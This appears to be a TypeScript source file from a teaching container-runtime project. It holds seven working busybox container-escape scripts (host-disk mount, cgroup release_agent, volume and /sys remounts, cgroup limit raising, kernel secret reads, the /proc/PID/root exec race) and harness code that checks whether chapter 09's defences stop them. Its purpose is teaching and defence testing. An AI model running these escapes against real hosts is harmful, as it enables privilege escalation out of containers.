/** Chapter 09 · the escapes this chapter closes: seven busybox scripts that take a chapter 08
 *  container's root out to the host's root, each by a door that the host's root has and the
 *  container's root still had. Each one is harmless: what it proves on the host is a secret it
 *  read, or a file it wrote, in a temporary directory that the host side makes for it.
 *    ./nutshell 09 escape --list               the demos, and what stops each one
 *    ./nutshell 09 escape disk <image>         try one against this chapter
 *    ./nutshell 09 escape disk --print         its script, to run against chapter 08
 *  The verb runs the demo as `run` would (it starts this program's own `run`), looks on the
 *  host for the proof, and says "escaped: <proof>" (exit 1) or "stopped: <why>" (exit 0). */
import { spawn, type ChildProcess } from 'node:child_process';
import { randomBytes } from 'node:crypto';
import { existsSync, mkdtempSync, readFileSync, realpathSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { extname, join, relative } from 'node:path';
import type { ParseArgsConfig } from 'node:util';
import { parseCommandLine } from '../../lib/cli.ts';
import { UserError } from '../../lib/errors.ts';
import { enableTrace, traceStep } from '../../lib/trace.ts';
import { exitCodeOf, generateId } from './container.ts';

/** What the host side of a demo made for it, and what came back. */
interface HostSide {
  /** A temporary directory of the host: the container is never shown it. */
  hostDir: string;
  /** The text of hostDir/secret, a file only the host can read. */
  secret: string;
  /** What the demo printed. */
  output: string;
}

export interface EscapeDemo {
  name: string;
  /** What the demo does, in one line. */
  shows: string;
  /** The defence of chapter 09 that stops it. */
  stoppedBy: string;
  /** What it needs from `run`, to try it against chapter 08 by hand. */
  needs: string;
  /** The demo: busybox sh, after the steps every demo shares (PRELUDE). */
  script: string;
  /** `run` options and environment for the demo, given its host directory. */
  setUp?(hostDir: string): { runArgs?: string[]; env?: Record<string, string> };
  /** The escape seen from the host: what the demo reached, or undefined. */
  proof(host: HostSide): string | undefined;
  /** The demo waits for `exec` to send a process into the container. */
  wantsExec?: boolean;
}

/** The steps every demo shares. A failed step ends the demo with one line that names the step
 *  and quotes the error; the last line is always "escaped: ..." or "stopped: ...". */
const PRELUDE = String.raw`# step WHAT COMMAND...: show the command, run it; if it fails, the demo stops there.
# (What it printed is left in $out.)
step() {
  what=$1; shift
  echo "+ $*"
  if out=$("$@" 2>&1); then
    [ -z "$out" ] || echo "$out"
  else
    stopped "$what: $(echo "$out" | paste -s -d ' ')"
  fi
}
stopped() { echo "stopped: $*"; exit 1; }
escaped() { echo "escaped: $*"; exit 0; }
`;

// ---------------------------------------------------------------- the demos

/** What stops every demo that needs a mount: two defences, either one enough. */
const MOUNT_REFUSED = 'mount(2) needs CAP_SYS_ADMIN, which is dropped, and the seccomp filter refuses it';

const DISK: EscapeDemo = {
  name: 'disk',
  shows: 'make a device node for a host disk, mount it, and read the host\'s files',
  stoppedBy: `the devices cgroup: open(2) of a block device that is not on the allow list is EPERM (mknod(2) itself still works, with CAP_MKNOD); and ${MOUNT_REFUSED}`,
  needs: '-e DISK=MAJOR:MINOR of a host disk (on the host: mountpoint -d /) -e SECRET=the path of a file on that disk, from its root',
  script: String.raw`[ -n "$DISK" ] || stopped "set DISK=MAJOR:MINOR, a disk of the host (on the host: mountpoint -d /)"
[ -n "$SECRET" ] || stopped "set SECRET=the path of a file on that disk"
major=$(echo "$DISK" | cut -d: -f1)
minor=$(echo "$DISK" | cut -d: -f2)
# mknod(2) asks for CAP_MKNOD, not which device: root may make a node for the host's disk.
step "make a node for the host's disk" mknod /dev/host-disk b "$major" "$minor"
# Whether the node may be opened is the devices cgroup's call. Chapter 08 never asks it.
step "open the host's disk" dd if=/dev/host-disk of=/dev/null bs=512 count=1
mkdir -p /mnt/host-disk
# The host has this filesystem mounted read-write, and the kernel will not mount one superblock
# read-only and read-write at once: mount it as it is, then make this one mount read-only.
step "mount the host's disk" mount /dev/host-disk /mnt/host-disk
step "make our mount of it read-only" mount -o remount,bind,ro /mnt/host-disk
step "read the host's file" cat "/mnt/host-disk$SECRET"
umount /mnt/host-disk
escaped "read $SECRET on the host's disk: $out"
`,
  setUp(hostDir) {
    const disk = diskOf(hostDir);
    return { env: { DISK: disk.device, SECRET: join(disk.path, 'secret') } };
  },
  proof: ({ secret, output }) => (output.includes(secret) ? `it printed the host's secret, "${secret}", read through the host's disk` : undefined),
};

const RELEASE_AGENT: EscapeDemo = {
  name: 'release-agent',
  shows: 'make a program of ours a cgroup hierarchy\'s release_agent: the host\'s kernel runs it as root',
  stoppedBy: `${MOUNT_REFUSED}; and the container is in a cgroup of its own in every v1 hierarchy, so its cgroup namespace shows it no hierarchy's root, where release_agent lives`,
  needs: '-e ESCAPE_DIR=a directory of the host, where the host\'s root writes its proof',
  script: String.raw`[ -n "$ESCAPE_DIR" ] || stopped "set ESCAPE_DIR=a directory of the host, for the proof"
# 1. Where our files are on the host: overlayfs shows its upper dir in the options of our "/".
upper=$(awk '$5 == "/" && / - overlay / { n = split($NF, o, ","); for (i = 1; i <= n; i++) if (o[i] ~ /^upperdir=/) print substr(o[i], 10) }' /proc/self/mountinfo)
[ -n "$upper" ] || stopped "no overlay upper dir for / in /proc/self/mountinfo"
echo "our files are on the host in $upper"
# 2. A cgroup v1 hierarchy whose root we can mount: release_agent is a file of the root only, and
#    our cgroup namespace shows us the root of the hierarchies where the engine left us in it.
mkdir -p /tmp/cgroup
hierarchy=
why=
for h in $(cut -d: -f2 /proc/self/cgroup); do
  if out=$(mount -t cgroup -o "$h" cgroup /tmp/cgroup 2>&1); then
    if [ -e /tmp/cgroup/release_agent ] && [ -z "$(cat /tmp/cgroup/release_agent)" ]; then hierarchy=$h; break; fi
    umount /tmp/cgroup
    [ -n "$why" ] || why="$h: our cgroup namespace hides its root"
  else
    [ -n "$why" ] || why="mount -t cgroup -o $h: $(echo "$out" | paste -s -d ' ')"
  fi
done
[ -n "$hierarchy" ] || stopped "no cgroup v1 hierarchy whose root we can reach: $why"
echo "mounted the root of the host's $hierarchy hierarchy at /tmp/cgroup"
cgroup=/tmp/cgroup/nutshell-escape-$(hostname)
# Whatever happens next, leave the host's hierarchy as we found it: no agent, no cgroup of ours.
trap 'echo > /tmp/cgroup/release_agent; [ ! -d "$cgroup" ] || rmdir "$cgroup"; umount /tmp/cgroup' EXIT
# 3. The program the host will run. Written here, it is in our upper dir, on the host.
mkdir /escape-signal
printf '#!/bin/sh\necho "written on the host by $(id)" > %s/proof\necho ran > %s/escape-signal/agent-ran\n' "$ESCAPE_DIR" "$upper" > /escape-agent
chmod +x /escape-agent
# 4. Arm it: a cgroup that asks to be reported when it empties, and our program as the reporter.
step "make a cgroup" mkdir "$cgroup"
step "ask for its release to be reported" sh -c 'echo 1 > "$1/notify_on_release"' - "$cgroup"
step "make our program the release agent" sh -c 'echo "$1" > /tmp/cgroup/release_agent' - "$upper/escape-agent"
# 5. Fire: a process joins the cgroup and exits. The host's kernel runs the agent, as root.
sh -c 'echo $$ > "$1/cgroup.procs"' - "$cgroup"
# It does so from a work queue, a moment later: wait for its sign. With ls, not test -e:
# overlayfs would remember the "no such file" of a first look.
i=0
while [ -z "$(ls /escape-signal)" ] && [ $i -lt 100 ]; do usleep 100000; i=$((i + 1)); done
[ -n "$(ls /escape-signal)" ] || stopped "the host's kernel never ran $upper/escape-agent"
escaped "the host's kernel ran $upper/escape-agent as root: it wrote $ESCAPE_DIR/proof"
`,
  proof: ({ hostDir }) => hostFile(hostDir, 'proof', 'the host\'s kernel ran the container\'s program as root, which wrote'),
};

const RO_VOLUME: EscapeDemo = {
  name: 'ro-volume',
  shows: 'remount a read-only volume (-v DIR:/data:ro) read-write, and write into the host\'s directory',
  stoppedBy: MOUNT_REFUSED,
  needs: '-v DIR:/data:ro (a directory of the host)',
  script: String.raw`[ -n "$VOLUME" ] || VOLUME=/data
grep -q " $VOLUME " /proc/self/mounts || stopped "no volume at $VOLUME: run with -v DIR:$VOLUME:ro"
if out=$(touch "$VOLUME/.nutshell-probe" 2>&1); then rm -f "$VOLUME/.nutshell-probe"; stopped "$VOLUME is writable already: run with -v DIR:$VOLUME:ro"; fi
echo "$VOLUME is read-only: $(grep " $VOLUME " /proc/self/mounts)"
# ":ro" is one flag on one mount, and whoever may mount in this mount namespace may clear it.
# MS_BIND with MS_REMOUNT changes only that mount's flags, never the host's filesystem.
step "remount the volume read-write" mount -o remount,bind,rw "$VOLUME"
step "write into the host's directory" sh -c 'echo "written from the container, through a read-only volume" > "$1/proof"' - "$VOLUME"
escaped "wrote $VOLUME/proof, in the host's directory behind the read-only volume"
`,
  setUp: (hostDir) => ({ runArgs: ['-v', `${hostDir}:/data:ro`] }),
  proof: ({ hostDir }) => hostFile(hostDir, 'proof', 'the container wrote, through its read-only volume,'),
};

const SYS_RW: EscapeDemo = {
  name: 'sys-rw',
  shows: 'remount /sys read-write: the kernel\'s knobs under it would take the container\'s writes (none is written)',
  stoppedBy: MOUNT_REFUSED,
  needs: 'nothing',
  script: String.raw`echo "before: $(grep ' /sys ' /proc/self/mounts)"
step "remount /sys read-write" mount -o remount,rw /sys
line=$(grep ' /sys ' /proc/self/mounts)
echo "after:  $line"
case "$line" in
  "sysfs /sys sysfs rw,"*) escaped "/sys is read-write: the kernel's settings under it would take our writes" ;;
esac
stopped "/sys is still read-only"
`,
  proof: ({ output }) => {
    const line = /^after: +(sysfs \/sys sysfs rw,\S*)/m.exec(output)?.[1];
    return line === undefined ? undefined : `the container's mount table says "${line}"`;
  },
};

const LIMITS: EscapeDemo = {
  name: 'limits',
  shows: 'raise the container\'s own memory and process limits (--memory 64m --pids-limit 50) from inside',
  stoppedBy: '/sys/fs/cgroup is read-only inside (EROFS), and mounting a cgroup filesystem needs CAP_SYS_ADMIN, which is dropped, and the seccomp filter refuses it',
  needs: '--memory 64m --pids-limit 50',
  script: String.raw`# Our own cgroup's files: under /sys/fs/cgroup when the engine shows them, else in a cgroup
# filesystem we mount ourselves. Our cgroup namespace makes our own cgroup its root.
if cut -d: -f2 /proc/self/cgroup | tr , '\n' | grep -qx memory; then
  # cgroup v1: a hierarchy per controller
  memory=/sys/fs/cgroup/memory
  pids=/sys/fs/cgroup/pids
  if [ ! -e $memory/memory.limit_in_bytes ]; then
    memory=/tmp/cgroup-memory; mkdir -p $memory
    step "mount our memory cgroup" mount -t cgroup -o memory cgroup $memory
  fi
  if [ ! -e $pids/pids.max ]; then
    pids=/tmp/cgroup-pids; mkdir -p $pids
    step "mount our pids cgroup" mount -t cgroup -o pids cgroup $pids
  fi
  limit=$memory/memory.limit_in_bytes
  # memory + swap first: the kernel refuses a memory limit above it
  raises="$memory/memory.memsw.limit_in_bytes $limit"
  unlimited=-1
else
  # cgroup v2: one directory
  memory=/sys/fs/cgroup
  if [ ! -e $memory/memory.max ]; then
    memory=/tmp/cgroup2; mkdir -p $memory
    step "mount our cgroup" mount -t cgroup2 cgroup2 $memory
  fi
  pids=$memory
  limit=$memory/memory.max
  raises="$memory/memory.swap.max $limit"
  unlimited=max
fi
memory_before=$(cat $limit)
pids_before=$(cat $pids/pids.max)
echo "our limits: memory $memory_before, processes $pids_before"
for file in $raises; do
  if [ -e $file ]; then step "raise $(basename $file)" sh -c 'echo "$1" > "$2"' - $unlimited $file; fi
done
step "raise pids.max" sh -c 'echo max > "$1"' - $pids/pids.max
memory_after=$(cat $limit)
pids_after=$(cat $pids/pids.max)
echo "now: memory $memory_after, processes $pids_after"
[ "$memory_after" != "$memory_before" ] || [ "$pids_after" != "$pids_before" ] || stopped "the limits did not change (run with --memory 64m --pids-limit 50)"
escaped "raised our own limits: memory $memory_before -> $memory_after, processes $pids_before -> $pids_after"
`,
  setUp: () => ({ runArgs: ['--memory', '64m', '--pids-limit', '50'] }),
  proof: ({ output }) => {
    const before = /^our limits: memory (\S+), processes (\S+)$/m.exec(output);
    const after = /^now: memory (\S+), processes (\S+)$/m.exec(output);
    if (!before || !after || (before[1] === after[1] && before[2] === after[2])) return undefined;
    return `the kernel now gives the container memory ${after[1]} (was ${before[1]}) and processes ${after[2]} (was ${before[2]})`;
  },
};

const KERNEL: EscapeDemo = {
  name: 'kernel',
  shows: 'read the host kernel\'s secrets: its keyring (/proc/keys), its addresses (/proc/kallsyms), its log (dmesg)',
  stoppedBy: '/proc/keys is masked; /proc/kallsyms shows zeros and syslog(2) is EPERM without CAP_SYSLOG, which is dropped (and the seccomp filter refuses syslog(2))',
  needs: 'nothing',
  script: String.raw`leaks=
why=
# Keys are not namespaced: /proc/keys lists every key our uid may view, and we are the host's uid 0.
keys=$(cat /proc/keys 2>&1)
if [ -n "$keys" ] && [ -r /proc/keys ]; then
  echo "/proc/keys: $(echo "$keys" | wc -l) keys"
  echo "$keys" | sed 's/^/    /'
  leaks="$leaks, its keyring"
else
  echo "/proc/keys: none ($keys)"
  why="$why; /proc/keys shows nothing"
fi
# The kernel's own addresses, which KASLR hides: shown as zeros without CAP_SYSLOG.
line=$(grep -m1 ' _stext$' /proc/kallsyms 2>&1)
echo "kallsyms: $line"
case "$(echo "$line" | cut -d' ' -f1)" in
  *[1-9a-f]*) leaks="$leaks, its addresses" ;;
  *) why="$why; /proc/kallsyms hides the addresses" ;;
esac
# The kernel's log: syslog(2), which wants CAP_SYSLOG when dmesg_restrict is set.
if log=$(dmesg 2>&1); then
  echo "dmesg: $(echo "$log" | wc -l) lines, the last: $(echo "$log" | tail -n 1)"
  leaks="$leaks, its log"
else
  echo "dmesg: $log"
  why="$why; $log"
fi
[ -n "$leaks" ] || stopped "$(echo "$why" | cut -c3-)"
escaped "read the host kernel's secrets: $(echo "$leaks" | cut -c3-)"
`,
  proof: ({ output }) => {
    const leaks = [
      Number(/^\/proc\/keys: (\d+) keys$/m.exec(output)?.[1] ?? 0) > 0 ? 'its keyring' : '',
      /^kallsyms: [0-9a-f]*[1-9a-f][0-9a-f]* /m.test(output) ? 'its addresses' : '',
      Number(/^dmesg: (\d+) lines/m.exec(output)?.[1] ?? 0) > 0 ? 'its log' : '',
    ].filter(Boolean);
    return leaks.length > 0 ? `the container read the host kernel's secrets: ${leaks.join(', ')}` : undefined;
  },
};

const EXEC: EscapeDemo = {
  name: 'exec',
  shows: 'while `exec` enters the container, reach the host through the entering process\'s /proc/PID/root',
  stoppedBy: 'exec\'s process is non-dumpable before it is visible in the container, and has joined every namespace before it runs anything; the container lacks CAP_SYS_PTRACE, so its /proc/PID/root is EACCES (runc\'s CVE-2019-5736)',
  needs: '-e ESCAPE_DIR=a directory of the host with a file named secret; then, from another terminal: exec <container> touch /tmp/exec-done',
  script: String.raw`[ -n "$ESCAPE_DIR" ] || stopped "set ESCAPE_DIR=a directory of the host with a file named secret"
echo "watching /proc for a process that comes in from the host: exec touch /tmp/exec-done in this container"
# A process that exec sends in is in our PID namespace a moment before it is in our mount
# namespace: for that moment, its /proc/PID/root is the host's "/". Look every 20 ms.
cd /proc
found=
refused=
i=0
while [ ! -e /tmp/exec-done ] && [ $i -lt 3000 ]; do
  for pid in [0-9]*; do
    [ -z "$found" ] || break
    if [ -e "/proc/$pid/root$ESCAPE_DIR/secret" ]; then
      echo "pid $pid: its root is the host's: $(tr '\0' ' ' < /proc/$pid/cmdline | cut -c1-120)"
      secret=$(cat "/proc/$pid/root$ESCAPE_DIR/secret")
      echo "read through /proc/$pid/root: $secret"
      if echo "written by the container, through /proc/$pid/root" > "/proc/$pid/root$ESCAPE_DIR/proof"; then found=$pid; fi
    elif [ -e "/proc/$pid" ] && [ ! -e "/proc/$pid/root/" ]; then
      case " $refused " in
        *" $pid "*) ;;
        *) # Looked at again, it may have become the container's own program already (execve),
           # or ended (a short command such as touch): an ended process refused nothing.
           error=$(ls -d "/proc/$pid/root/" 2>&1) && error="refused while it came in; a moment later it ran the container's own program"
           if [ -e "/proc/$pid" ]; then refused="$refused $pid"; echo "pid $pid: $error"; fi ;;
      esac
    fi
  done
  usleep 20000
  i=$((i + 1))
done
[ -z "$found" ] || escaped "read $ESCAPE_DIR/secret and wrote $ESCAPE_DIR/proof on the host, through /proc/$found/root"
[ -z "$refused" ] || stopped "the entering process's root is out of reach: $error"
stopped "no process came in with the host's root"
`,
  proof: ({ hostDir }) => hostFile(hostDir, 'proof', 'through the entering process, the container wrote'),
  wantsExec: true,
};

/** The demos, in the order of the lesson. (open_by_handle_at(2), the "shocker" escape, has no
 *  busybox tool: the seccomp filter's tests show it refused.) */
export const ESCAPES: readonly EscapeDemo[] = [DISK, RELEASE_AGENT, RO_VOLUME, SYS_RW, LIMITS, KERNEL, EXEC];

/** The script that `--print` shows and the container runs: a header, the shared steps, the demo. */
export function escapeScript(demo: EscapeDemo): string {
  return `# nutshell escape "${demo.name}": ${demo.shows}\n# needs: ${demo.needs}\n# chapter 09 stops it: ${demo.stoppedBy}\n${PRELUDE}${demo.script}`;
}

// ---------------------------------------------------------------- host side

/** The file `name` in the host directory, if the demo made it there. */
function hostFile(hostDir: string, name: string, how: string): string | undefined {
  const file = join(hostDir, name);
  return existsSync(file) ? `${how} ${file}: "${readFileSync(file, 'utf8').trim()}"` : undefined;
}

/** The disk that holds `dir`, as MAJOR:MINOR, and the path of `dir` on it. /proc/self/mountinfo
 *  gives both: "36 25 254:0 /root/of/mount /mount/point options - ext4 /dev/vda rw" (man 5 proc). */
function diskOf(dir: string): { device: string; path: string } {
  const real = realpathSync(dir);
  // Spaces and the like are written \040 in mountinfo.
  const unescape = (field: string) => field.replace(/\\([0-7]{3})/g, (_, octal: string) => String.fromCharCode(parseInt(octal, 8)));
  let best: { device: string; root: string; mountPoint: string; type: string } | undefined;
  for (const line of readFileSync('/proc/self/mountinfo', 'utf8').split('\n')) {
    const fields = line.split(' ');
    if (fields.length < 10) continue;
    const mountPoint = unescape(fields[4]!);
    const under = real === mountPoint || real.startsWith(mountPoint === '/' ? '/' : `${mountPoint}/`);
    // The longest mount point wins; of two on the same point, the later one hides the earlier.
    if (under && (!best || mountPoint.length >= best.mountPoint.length)) {
      best = { device: fields[2]!, root: unescape(fields[3]!), mountPoint, type: fields[fields.indexOf('-') + 1]! };
    }
  }
  if (!best || !existsSync(`/sys/dev/block/${best.device}`)) {
    throw new UserError(`${dir} is on ${best?.type ?? 'no filesystem'} (${best?.device ?? '?'}), not on a disk: give --host-dir a directory on a disk's filesystem`);
  }
  return { device: best.device, path: join(best.root, relative(best.mountPoint, real)) };
}

/** Our own entry point, as the engine re-executes it (see container.ts). */
const THIS_PROGRAM = new URL(`./main${extname(import.meta.url)}`, import.meta.url).pathname;

/** This program again, with another verb: `run` for the demo's container, `exec` to go in. */
function startSelf(args: string[], stdout: 'pipe' | 'inherit'): ChildProcess {
  traceStep(`spawn ${THIS_PROGRAM} ${args.slice(0, 4).join(' ')} …`, 'the demo runs in a container made the way `run` makes one');
  return spawn(process.execPath, [...process.execArgv, THIS_PROGRAM, ...args], { stdio: ['ignore', stdout, 'inherit'] });
}

/** Run one demo in a container of this chapter, made by `run` with `runOptions` on `image`;
 *  then look on the host for its proof. 1 if it escaped, 0 if it was stopped. */
export async function runEscape(demo: EscapeDemo, image: string, runOptions: string[], hostParent: string): Promise<number> {
  const say = (line: string) => process.stdout.write(`${line}\n`);
  const hostDir = mkdtempSync(join(hostParent, 'nutshell-escape-'));
  traceStep(`mkdir ${hostDir}`, 'the host\'s side of the demo: a secret only the host can read, and the place for a proof');
  try {
    const secret = `host-only ${randomBytes(8).toString('hex')}`;
    writeFileSync(join(hostDir, 'secret'), `${secret}\n`, { mode: 0o600 });
    const { runArgs = [], env = {} } = demo.setUp?.(hostDir) ?? {};
    const envArgs = Object.entries({ ESCAPE_DIR: hostDir, ...env }).flatMap(([key, value]) => ['-e', `${key}=${value}`]);
    const name = `escape-${generateId()}`;
    say(`escape ${demo.name}: ${demo.shows}`);
    say(`(host side: ${hostDir}; container ${name})`);
    const container = startSelf(['run', '--rm', '--name', name, ...runOptions, ...runArgs, ...envArgs, image, 'sh', '-c', escapeScript(demo)], 'pipe');
    let output = '';
    let sentExec = false;
    container.stdout!.on('data', (chunk: Buffer) => {
      output += chunk.toString();
      process.stdout.write(chunk.toString().replace(/^(?=.)/gm, '  '));
      // The exec demo watches /proc from now on: send a process in, as a user would.
      if (demo.wantsExec && !sentExec && /^watching \/proc/m.test(output)) {
        sentExec = true;
        startSelf(['exec', name, 'touch', '/tmp/exec-done'], 'inherit').once('exit', (code) => {
          if (code !== 0) startSelf(['kill', name], 'inherit'); // the watcher would wait a minute for nothing
        });
      }
    });
    const closed = new Promise((done) => container.once('close', done));
    const code = await exitCodeOf(container);
    await closed; // all of its output read
    const proof = demo.proof({ hostDir, secret, output });
    if (proof) {
      say(`escaped: ${proof}`);
      return 1;
    }
    const why = /^stopped: (.*)$/m.exec(output)?.[1];
    if (!why && code >= 125) throw new UserError(`the demo did not run: its container ended with exit code ${code}`);
    say(`stopped: ${why ?? 'no proof of an escape on the host'}`);
    return 0;
  } finally {
    rmSync(hostDir, { recursive: true, force: true });
  }
}

/** Words in lines of at most 100 columns, each line starting with `indent`. */
function wrap(text: string, indent: string): string {
  const lines = [indent];
  for (const word of text.split(' ')) {
    if (lines.at(-1)!.length + word.length > 100) lines.push(indent);
    lines[lines.length - 1] += (lines.at(-1) === indent ? '' : ' ') + word;
  }
  return lines.join('\n');
}

type Options = NonNullable<ParseArgsConfig['options']>;

/** `escape [OPTIONS] <demo> [OPTIONS] <image>`: options may follow the demo's name too
 *  (`escape disk --print`), so what came after it is parsed here. The options of `run` that
 *  the user gave go on to the demo's `run` as they came. */
export async function escapeCommand(options: Options, given: Record<string, unknown>, words: string[]): Promise<number> {
  const line = parseCommandLine(words, { ...options, trace: { type: 'boolean' } }, 2);
  if (line.values.trace === true) await enableTrace();
  const values: Record<string, unknown> = { ...given, ...line.values };
  const [demoName, image] = line.positionals;
  if (values.list === true) {
    for (const demo of ESCAPES) process.stdout.write(`${demo.name.padEnd(14)}${demo.shows}\n${wrap(`stopped by: ${demo.stoppedBy}`, ' '.repeat(14))}\n`);
    return 0;
  }
  const usage = 'usage: escape [--list] [--print] [--host-dir DIR] [RUN OPTIONS] <demo> <image>';
  if (demoName === undefined) throw new UserError(usage);
  const demo = ESCAPES.find((d) => d.name === demoName);
  if (!demo) throw new UserError(`unknown escape "${demoName}" (try: ${ESCAPES.map((d) => d.name).join(', ')})`);
  if (values.print === true) {
    process.stdout.write(escapeScript(demo));
    return 0;
  }
  if (image === undefined || line.command.length > 0) throw new UserError(usage);
  const runOptions = Object.entries(values).flatMap(([key, value]) => {
    if (['list', 'print', 'host-dir', 'trace'].includes(key)) return [];
    return (Array.isArray(value) ? value : [value]).map((v) => (v === true ? [`--${key}`] : [`--${key}`, String(v)])).flat();
  });
  const hostParent = typeof values['host-dir'] === 'string' ? values['host-dir'] : tmpdir();
  return runEscape(demo, image, runOptions, hostParent);
}
